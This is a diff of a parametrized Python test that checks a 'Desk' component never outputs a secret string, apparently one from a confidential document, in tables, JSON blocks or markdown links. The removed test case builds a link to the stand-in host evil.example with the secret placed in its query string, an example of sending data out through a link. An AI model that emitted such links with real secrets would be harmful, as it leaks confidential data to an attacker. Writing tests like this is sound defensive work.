@@ -126,7 +126,7 @@ class TestBackground:
             "See submarine-plans.md for more.",
             f"| a |\n|---|\n| {COPY} |",
             f'```json\n{{"text": "{COPY}"}}\n```',
-            f"[more](https://evil.example/?q={COPY.replace(' ', '%20')})",
+            f"[{COPY}](https://evil.example/?q=1)",
         ],
     )
     async def test_never_tells_a_copy(self, desk: Desk, told: str) -> None:
